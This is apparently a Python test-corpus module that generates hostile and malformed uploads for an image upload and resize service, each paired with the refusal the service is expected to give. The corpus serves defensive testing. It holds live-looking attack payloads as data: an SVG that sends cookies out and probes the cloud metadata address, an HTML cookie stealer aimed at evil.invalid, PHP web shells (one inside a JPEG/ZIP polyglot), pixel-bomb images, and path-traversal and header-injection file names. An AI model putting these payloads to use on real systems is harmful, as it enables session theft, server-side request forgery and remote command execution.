"""A corpus of hostile and awkward inputs, generated on the fly, each with its defined outcome.

Every :class:`Hostile` case says what the service must do with it:

* ``upload`` -- the status of a simple store (``POST /www/api/store/S3``) and, when it
  is refused, a fragment of the error message;
* ``stored_type`` -- the media type sniffed from the bytes (never the name);
* ``transform`` -- what ``/cdn/resize=width:100/HANDLE`` answers: the decoded size of
  the result, or the 4xx status and a fragment of the error message;
* ``workflow`` -- how the profile workflow ends on it: ``None`` for ``Finished`` with a
  400x400 avatar, else a fragment of the failure reason.

The byte sizes stay small (a few hundred KB at most) so the corpus is cheap to run.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

from PIL import Image, ImageDraw

#: The upload limit the corpus is run with; ``over_size_limit`` is one byte over it.
CORPUS_MAX_UPLOAD_BYTES = 2 * 1024 * 1024
#: The pixel cap the corpus is run with (the service default is larger; see ``Limits``).
CORPUS_MAX_PIXELS = 50_000_000
#: The frame cap the corpus is run with.
CORPUS_MAX_FRAMES = 200


@dataclass(frozen=True)
class Refused:
    """A 4xx answer whose ``error`` contains ``fragment`` (case-insensitive)."""

    status: int
    fragment: str


@dataclass(frozen=True)
class Hostile:
    """One input of the corpus and everything the service must do with it."""

    name: str
    data: bytes
    filename: str
    upload: int | Refused = 200
    stored_type: str | None = None
    transform: tuple[int, int] | Refused | None = None
    workflow: str | None = None
    #: The type the upload claims in its Content-Type header (never believed).
    claimed_type: str = "image/jpeg"
    notes: str = ""
    extra: dict[str, object] = field(default_factory=dict)

    @property
    def stored(self) -> bool:
        """Whether the upload is accepted."""
        return self.upload == 200


# -- image builders ---------------------------------------------------------------


def photo(width: int = 300, height: int = 200, mode: str = "RGB") -> Image.Image:
    """A small picture with shapes and gradients, so encoders have something to do."""
    image = Image.new("RGB", (width, height), (40, 90, 160))
    draw = ImageDraw.Draw(image)
    for x in range(0, width, max(1, width // 10)):
        draw.line([(x, 0), (width - x, height)], fill=(250 - x % 250, 120, x % 200), width=3)
    draw.ellipse([width // 4, height // 4, 3 * width // 4, 3 * height // 4], fill=(240, 230, 200))
    return image.convert(mode) if mode != "RGB" else image


def encode(image: Image.Image, fmt: str, **options: object) -> bytes:
    """``image`` encoded as ``fmt``."""
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def jpeg(width: int = 300, height: int = 200, **options: object) -> bytes:
    """A baseline JPEG of :func:`photo`."""
    return encode(photo(width, height), "JPEG", quality=85, **options)


def png(width: int = 300, height: int = 200) -> bytes:
    """A PNG of :func:`photo`."""
    return encode(photo(width, height), "PNG")


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return (
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
    )


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose IHDR declares ``width`` x ``height``; its pixel data is a stub.

    Decoding it would fail as corrupt, so a size refusal proves the header was checked first.
    """
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def jpeg_declaring(width: int, height: int) -> bytes:
    """A real 16x16 JPEG whose SOF0 marker is patched to declare ``width`` x ``height``."""
    data = bytearray(encode(photo(16, 16), "JPEG", quality=80))
    marker = data.find(b"\xff\xc0")
    if marker < 0:
        raise ValueError("no SOF0 marker in the encoded JPEG")
    struct.pack_into(">HH", data, marker + 5, height, width)
    return bytes(data)


def gif_with_frames(screen: tuple[int, int], frames: int, frame_size: tuple[int, int] = (1, 1)) -> bytes:
    """A GIF89a with a ``screen`` logical screen and ``frames`` tiny frames, written by hand."""
    width, height = screen
    out = bytearray(b"GIF89a")
    out += struct.pack("<HHBBB", width, height, 0x80, 0, 0)  # global colour table of 2 entries
    out += b"\x00\x00\x00\xff\xff\xff"
    out += b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"  # loop forever
    fw, fh = frame_size
    lzw = _gif_lzw_zeros(min(fw * fh, 64))  # a huge frame's data may stop short: it is never decoded
    for _ in range(frames):
        out += b"\x21\xf9\x04\x00\x01\x00\x00\x00"  # graphic control: 10 ms
        out += b"\x2c" + struct.pack("<HHHHB", 0, 0, fw, fh, 0)
        out += b"\x02" + lzw
    out += b"\x3b"
    return bytes(out)


def _gif_lzw_zeros(pixels: int) -> bytes:
    """LZW data (minimum code size 2) for ``pixels`` pixels of colour 0, as GIF sub-blocks."""
    clear, end, width = 4, 5, 3
    codes = [clear]
    remaining = pixels
    while remaining > 0:  # one literal per pixel with a clear code before the table grows past 3 bits
        codes.extend([0, clear] if remaining > 1 else [0])
        remaining -= 1
    codes.append(end)
    bits = 0
    nbits = 0
    raw = bytearray()
    for code in codes:
        bits |= code << nbits
        nbits += width
        while nbits >= 8:
            raw.append(bits & 0xFF)
            bits >>= 8
            nbits -= 8
    if nbits:
        raw.append(bits & 0xFF)
    blocks = bytearray()
    for start in range(0, len(raw), 255):
        piece = raw[start : start + 255]
        blocks += bytes([len(piece)]) + piece
    return bytes(blocks + b"\x00")


def animated(fmt: str, size: tuple[int, int] = (120, 80), frames: int = 3) -> bytes:
    """An animated GIF or WebP of ``frames`` differently coloured frames."""
    images = [Image.new("RGB", size, (80 * i % 256, 40, 200 - 50 * i)) for i in range(frames)]
    return encode(images[0], fmt, save_all=True, append_images=images[1:], duration=80, loop=0)


def cmyk_jpeg() -> bytes:
    """A CMYK JPEG (as print workflows and some cameras produce)."""
    return encode(photo(300, 200, "CMYK"), "JPEG", quality=85)


def sixteen_bit_png() -> bytes:
    """A 16-bit greyscale PNG with a full-range gradient."""
    image = Image.new("I;16", (300, 200))
    image.putdata([(x * 65535) // 299 for _y in range(200) for x in range(300)])
    return encode(image, "PNG")


def exif_rotated_jpeg() -> bytes:
    """A 300x200 JPEG whose EXIF orientation (6: rotate 90° clockwise) makes it 200x300 upright."""
    exif = Image.Exif()
    exif[0x0112] = 6
    return encode(photo(300, 200), "JPEG", quality=85, exif=exif.tobytes())


def jpeg_zip_polyglot() -> bytes:
    """A valid JPEG with a ZIP archive (holding a PHP script) appended: both readers accept it."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("shell.php", "<?php system($_GET['c']); ?>")
    return jpeg() + archive.getvalue()


def heic_or_stub() -> tuple[bytes, bool]:
    """A HEIC file: real when ``pillow_heif`` can encode one, else an ``ftyp heic`` stub.

    Returns the bytes and whether they are a real, decodable image.
    """
    try:
        import pillow_heif  # type: ignore[import-not-found]
    except ImportError:
        box = struct.pack(">I", 24) + b"ftypheic" + struct.pack(">I", 0) + b"mif1heic"
        return box + b"\x00" * 64, False
    pillow_heif.register_heif_opener()
    return encode(photo(300, 200), "HEIF"), True


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    b'width="300" height="200" onload="fetch(\'/steal?\'+document.cookie)">'
    b"<script>alert(document.domain)</script>"
    b'<image href="http://169.254.169.254/latest/meta-data/" width="10" height="10"/>'
    b'<use xlink:href="https://attacker.invalid/sprite.svg#x"/>'
    b'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>'
    b"</svg>"
)
HTML_NAMED_JPG = (
    b"<!DOCTYPE html><html><body>"
    b"<script>document.location='//evil.invalid/'+document.cookie</script></body></html>"
)
PHP_NAMED_JPG = b"<?php system($_GET['cmd']); ?>\n"

#: File names that try to leave the data directory or break headers; none may reach the file system.
HOSTILE_NAMES: tuple[str, ...] = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "....//....//x.jpg",
    "x\r\nSet-Cookie: owned=1.jpg",
    "nul\x00byte.jpg",
    "фото отпуск 😀 ﷽.jpg",
    "..",
    "%2e%2e%2fescaped.jpg",
    "a" * 400 + ".jpg",
)

NOT_AN_IMAGE = "not a supported image"
CORRUPT = "corrupt or truncated"
TOO_LARGE = "pixels"


def _cases() -> list[Hostile]:
    full_jpeg = jpeg(600, 400)
    full_png = png(300, 200)
    heic, heic_real = heic_or_stub()
    cases = [
        Hostile("zero_bytes", b"", "empty.jpg", upload=Refused(400, "file is empty")),
        Hostile(
            "truncated_jpeg",
            full_jpeg[: len(full_jpeg) // 3],
            "cut.jpg",
            stored_type="image/jpeg",
            transform=Refused(400, CORRUPT),
            workflow=CORRUPT,
        ),
        Hostile(
            "truncated_png",
            full_png[: len(full_png) // 2],
            "cut.png",
            claimed_type="image/png",
            stored_type="image/png",
            transform=Refused(400, CORRUPT),
            workflow=CORRUPT,
        ),
        Hostile(
            "png_over_pixel_cap",
            png_declaring(10_000, 10_000),
            "bomb.png",
            claimed_type="image/png",
            stored_type="image/png",
            transform=Refused(413, "over the limit"),
            workflow="over the limit",
            notes="100 MP declared in a 100-byte file; refused from the header",
        ),
        Hostile(
            "jpeg_over_pixel_cap",
            jpeg_declaring(65_000, 65_000),
            "bomb.jpg",
            stored_type="image/jpeg",
            transform=Refused(413, TOO_LARGE),
            workflow=TOO_LARGE,
            notes="4.2 Gpx declared (Pillow's own bomb guard fires first)",
        ),
        Hostile(
            "jpeg_just_over_cap",
            jpeg_declaring(8_000, 7_000),
            "big.jpg",
            stored_type="image/jpeg",
            transform=Refused(413, "over the limit"),
            workflow="over the limit",
        ),
        Hostile(
            "gif_huge_screen_many_frames",
            gif_with_frames((65_535, 65_535), 2_000),
            "bomb.gif",
            claimed_type="image/gif",
            stored_type="image/gif",
            transform=Refused(413, TOO_LARGE),
            workflow=TOO_LARGE,
        ),
        Hostile(
            "gif_too_many_frames",
            gif_with_frames((64, 64), 3_000),
            "frames.gif",
            claimed_type="image/gif",
            stored_type="image/gif",
            transform=Refused(413, "frames"),
            workflow="frames",
        ),
        Hostile(
            "gif_frame_bigger_than_screen",
            gif_with_frames((16, 16), 2, frame_size=(9_000, 9_000)),
            "extent.gif",
            claimed_type="image/gif",
            stored_type="image/gif",
            transform=Refused(413, TOO_LARGE),
            workflow=TOO_LARGE,
        ),
        Hostile(
            "svg_with_script",
            SVG_WITH_SCRIPT,
            "logo.svg",
            claimed_type="image/png",
            stored_type="image/svg+xml",
            transform=Refused(400, "SVG images are not processed"),
            workflow="SVG images are not processed",
        ),
        Hostile(
            "html_named_jpg",
            HTML_NAMED_JPG,
            "holiday.jpg",
            stored_type="text/html",
            transform=Refused(400, NOT_AN_IMAGE),
            workflow=NOT_AN_IMAGE,
        ),
        Hostile(
            "php_named_jpg",
            PHP_NAMED_JPG,
            "avatar.php.jpg",
            stored_type="text/plain",
            transform=Refused(400, NOT_AN_IMAGE),
            workflow=NOT_AN_IMAGE,
        ),
        Hostile(
            "jpeg_zip_polyglot",
            jpeg_zip_polyglot(),
            "poly.jpg",
            stored_type="image/jpeg",
            transform=(100, 67),
        ),
        Hostile("cmyk_jpeg", cmyk_jpeg(), "print.jpg", stored_type="image/jpeg", transform=(100, 67)),
        Hostile(
            "sixteen_bit_png",
            sixteen_bit_png(),
            "deep.png",
            claimed_type="image/png",
            stored_type="image/png",
            transform=(100, 67),
        ),
        Hostile(
            "exif_rotated_jpeg",
            exif_rotated_jpeg(),
            "phone.jpg",
            stored_type="image/jpeg",
            transform=(100, 150),
        ),
        Hostile(
            "animated_gif",
            animated("GIF"),
            "anim.gif",
            claimed_type="image/gif",
            stored_type="image/gif",
            transform=(100, 67),
        ),
        Hostile(
            "animated_webp",
            animated("WEBP"),
            "anim.webp",
            claimed_type="image/webp",
            stored_type="image/webp",
            transform=(100, 67),
        ),
        Hostile(
            "heic",
            heic,
            "photo.heic",
            claimed_type="image/heic",
            stored_type="image/heic",
            transform=(100, 67) if heic_real else Refused(400, NOT_AN_IMAGE),
            workflow=None if heic_real else NOT_AN_IMAGE,
            notes="decoded when pillow_heif is installed, else a clear 400",
        ),
        Hostile(
            "over_size_limit",
            b"\xff\xd8\xff" + b"\x00" * CORPUS_MAX_UPLOAD_BYTES,
            "huge.jpg",
            upload=Refused(413, f"{CORPUS_MAX_UPLOAD_BYTES}-byte upload limit"),
        ),
    ]
    cases += [
        Hostile(f"name_{index}", jpeg(60, 40), name, stored_type="image/jpeg", transform=(100, 67))
        for index, name in enumerate(HOSTILE_NAMES)
    ]
    return cases


_CACHE: list[Hostile] = []


def corpus() -> list[Hostile]:
    """Every case, built once per process."""
    if not _CACHE:
        _CACHE.extend(_cases())
    return list(_CACHE)


def case(name: str) -> Hostile:
    """One case by name."""
    for item in corpus():
        if item.name == name:
            return item
    raise KeyError(name)


def names(predicate: Callable[[Hostile], bool] = lambda _case: True) -> list[str]:
    """The names of the cases matching ``predicate``, for ``pytest.mark.parametrize``."""
    return [item.name for item in corpus() if predicate(item)]
